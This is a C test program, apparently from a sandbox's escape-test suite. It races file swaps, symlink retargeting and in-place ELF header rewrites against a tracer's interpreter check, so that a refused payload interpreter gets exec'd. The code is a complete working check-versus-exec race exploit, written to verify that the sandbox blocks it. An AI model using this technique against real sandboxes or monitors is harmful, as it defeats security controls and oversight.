/* exec_interp_swap.c: a program's ELF interpreter swapped between the check and the exec
 * (review 16; class 4, the exec's interpreters).
 *
 *   exec_interp_swap file GOOD BAD NAME TRIES
 *   exec_interp_swap link GOOD BAD NAME PROGRAM TRIES
 *   exec_interp_swap flip PROGRAM TRIES
 *
 * "file": GOOD and BAD are two builds of one program, GOOD's PT_INTERP the system's dynamic
 * loader, BAD's a payload a rule refuses to exec (tests/escape/interp.c).  A child process
 * puts GOOD and BAD at NAME in turn (a hard link renamed over it: each a file of its own);
 * the main process execs NAME in a child, TRIES times.  The tracer reads the file to check
 * its interpreters (Supervisor._interpreters) and noted for its check at the exec event the
 * file NAME named when it noted it (Tracer._note_exec: a stat by name) -- GOOD read and
 * checked, BAD noted and run passed both.
 * "link": PROGRAM's PT_INTERP is NAME, a symlink the child process points at GOOD (the
 * loader) and BAD (the payload) in turn (a new link renamed over it); the main process execs
 * PROGRAM.  The decision resolves NAME; the kernel resolves it again when it loads it.
 * "flip" (review 17): PROGRAM's PT_INTERP is the payload; the child process rewrites, in
 * place, the type of that program header between PT_INTERP and PT_NULL (one word of the
 * file: the same file, its device and inode unchanged) -- a decision that read PT_NULL found
 * no interpreter to check, the kernel read PT_INTERP and loaded the payload.
 * ESCAPED when the payload's marker appears. */
#include "attack.h"
#include <elf.h>
#include <stdint.h>

static void swap_for_ever(int links, const char *good, const char *bad, const char *name)
{
    char spare[4096];
    snprintf(spare, sizeof spare, "%s.next", name);
    for (;;) {
        const char *files[2] = {bad, good};
        for (int i = 0; i < 2; i++) {
            unlink(spare);
            if ((links ? symlink(files[i], spare) : link(files[i], spare)) == 0)
                rename(spare, name);
        }
    }
}

/* The file offset of PROGRAM's PT_INTERP program header's p_type (-1: none). */
static off_t interp_header(const char *program)
{
    int fd = open(program, O_RDONLY | O_CLOEXEC);
    Elf64_Ehdr eh;
    if (fd < 0 || pread(fd, &eh, sizeof eh, 0) != (ssize_t)sizeof eh)
        return -1;
    for (int i = 0; i < eh.e_phnum; i++) {
        Elf64_Phdr ph;
        off_t at = (off_t)eh.e_phoff + (off_t)i * eh.e_phentsize;
        if (pread(fd, &ph, sizeof ph, at) != (ssize_t)sizeof ph)
            break;
        if (ph.p_type == PT_INTERP) {
            close(fd);
            return at;
        }
    }
    close(fd);
    return -1;
}

static void flip_for_ever(const char *program, off_t at)
{
    for (;;) {
        const uint32_t types[2] = {PT_NULL, PT_INTERP};
        for (int i = 0; i < 2; i++) {
            int fd = open(program, O_WRONLY | O_CLOEXEC);  /* (not held: ETXTBSY at exec) */
            if (fd >= 0) {
                if (pwrite(fd, &types[i], sizeof types[i], at) < 0) { /* (a run of it) */ }
                close(fd);
            }
        }
    }
}

int main(int argc, char **argv)
{
    int links = argc == 7 && strcmp(argv[1], "link") == 0;
    int flip = argc == 4 && strcmp(argv[1], "flip") == 0;
    if (!links && !flip && !(argc == 6 && strcmp(argv[1], "file") == 0))
        usage("exec_interp_swap file GOOD BAD NAME TRIES | link GOOD BAD NAME PROGRAM TRIES"
              " | flip PROGRAM TRIES");
    const char *marker = getenv("ESC_MARKER");
    const char *program = flip ? argv[2] : links ? argv[5] : argv[4];
    int tries = atoi(argv[flip ? 3 : links ? 6 : 5]);
    pid_t swapper;
    if (flip) {
        off_t at = interp_header(program);
        if (at < 0)
            blocked("%s: no PT_INTERP", program);
        swapper = fork();
        if (swapper == 0) {
            flip_for_ever(program, at);
            _exit(0);
        }
    } else {
        const char *good = argv[2], *bad = argv[3], *name = argv[4];
        unlink(name);
        if ((links ? symlink(good, name) : link(good, name)) != 0)
            blocked("link: %s", ename(errno));
        swapper = fork();
        if (swapper == 0) {
            swap_for_ever(links, good, bad, name);
            _exit(0);
        }
    }
    int ran = 0, failed = 0, killed = 0;
    for (int i = 0; i < tries && !(marker && exists(marker)); i++) {
        pid_t pid = fork();
        if (pid == 0) {
            char *args[] = {(char *)program, NULL};
            execve(program, args, environ);
            _exit(127);
        }
        int status;
        if (waitpid(pid, &status, 0) != pid)
            continue;
        if (WIFSIGNALED(status))
            killed++;
        else if (WEXITSTATUS(status) == 0)
            ran++;
        else
            failed++;
    }
    kill(swapper, SIGKILL);
    waitpid(swapper, NULL, 0);
    printf("note: %d ran, %d failed, %d killed\n", ran, failed, killed);
    if (marker && exists(marker))
        escaped("the refused interpreter ran (the file read was not the file exec'd)");
    blocked("the refused interpreter never ran");
}
